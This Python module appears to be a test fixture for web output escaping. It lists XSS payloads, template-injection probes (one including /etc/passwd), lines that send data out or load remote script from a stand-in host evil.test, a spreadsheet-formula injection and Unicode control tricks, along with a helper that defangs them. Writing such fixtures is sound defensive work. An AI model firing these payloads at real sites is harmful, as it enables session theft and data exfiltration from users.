"""Words that harm if a page takes them for anything else, and harmless ones of their shape."""

import re
from typing import Final

_DO: Final = "window.hurt=1"
PAYLOADS: Final = (
    f"\"'><script class=mark>{_DO}</script>",
    "<script src=//evil.test/x.js></script>",
    f"<SCRIPT/x>{_DO}</SCRIPT >",
    f"<img src=x onerror={_DO}>",
    f'"><img src="x" onerror="{_DO}">',
    f"'><img src='x' onerror='{_DO}'>",
    f"`><img src=`x` onerror=`{_DO}`>",
    f"x onmouseover={_DO} ",
    f'" autofocus onfocus="{_DO}" x="',
    f"' autofocus onfocus='{_DO}' x='",
    f'" formaction="javascript:{_DO}',
    f"javascript:{_DO}//",
    f"JaVaScRiPt:{_DO}",
    f"java\tscript:{_DO}",
    f"data:text/html,<script>{_DO}</script>",
    f"vbscript:{_DO}",
    "//evil.test/x",
    "{{7*7}}",
    "{{ config }}{{ ''.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}{% raw %}",
    "{# a comment #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d {0} {name!r} {nickname}",
    f"</textarea><script>{_DO}</script>",
    f"</title><script>{_DO}</script>",
    f"</style><script>{_DO}</script>",
    f"</script><script>{_DO}</script>",
    f"</option></select><script>{_DO}</script>",
    f"</bdi></time></a></button><b>{_DO}</b>",
    f"</p></li></ul></section></main></body></html><h1>{_DO}</h1>",
    f"--><script>{_DO}</script><!--",
    f"--!><script>{_DO}</script>",
    f"]]><script>{_DO}</script><![CDATA[",
    "<!DOCTYPE html><?xml version='1.0'?>",
    f"&lt;script&gt;{_DO}&lt;/script&gt;",
    f"&#60;script&#62;{_DO}&#x3c;/script&#x3E;",
    "&quot;&#34;&apos;&#39;&amp;&amp;amp;&nbsp;&notit;",
    f"<svg onload={_DO}>",
    f"<svg><script>{_DO}</script></svg>",
    f"<svg><a xlink:href=javascript:{_DO}><text>x</text></a></svg>",
    f"<math><mi xlink:href=javascript:{_DO}>x</mi></math>",
    '<iframe srcdoc="<script>parent.hurt=1</script>"></iframe>',
    f"<iframe src=javascript:{_DO}></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{display:none}</style>",
    '" style="position:fixed;inset:0;background:red',
    "<form action=//evil.test/><input name=code><button>Send</button></form>",
    '" hx-get="//evil.test/" hx-trigger="load',
    f'<div hx-get=/team/ hx-trigger=load hx-on:click="{_DO}">',
    f'<p hx-on::load="{_DO}" data-hx-on-load="{_DO}">',
    f"<details open ontoggle={_DO}><video autoplay onplay={_DO}>",
    f"<template><script>{_DO}</script></template><noscript><p title='</noscript>'>",
    "\u202egnp.txt\u202c \u2066isolated\u2069 \u200e\u200f\u061c\u2067never ended",
    "\u0001\u0007\u0008\u001b[31m\u007f\u0080 \u2400\ufffe\uffff\ufdd0",
    "\u000b\u000c\u001c\u0085\u2028\u2029\u00a0\u200b\ufeff",
    '=HYPERLINK("//evil.test/","x") +1+1 -1+1 @SUM(A1)',
    "W" * 300 + "e\u0301\u0327" * 40,
    "ｓｃｒｉｐｔ ＜script＞ ‹script› \U000e0001\U0001f468\u200d\U0001f469\u200d\U0001f467 ﷺ",
)
HOSTILE: Final = " ".join(PAYLOADS)

#: What means something in HTML, a script, a style or a template, and what no eye sees.
_SIGNS: Final = re.compile(
    r"[<>\"'`&={}()\[\]$%#\\|]|[\x00-\x08\x0e-\x1b\x7f-\x84\x86-\x9f]"
    r"|[\u200b-\u200f\u202a-\u202e\u2060-\u2069\u061c\ufeff\ufdd0\ufffe\uffff\U000e0001]"
)


def tame(text: str) -> str:
    """The same with a letter in place of each sign: as long, with as many words and lines."""
    return _SIGNS.sub("q", text)


HARMLESS: Final = tame(HOSTILE)
#: By these is seen where a page shows such a text.
MARKS: Final = (PAYLOADS[0], tame(PAYLOADS[0]))
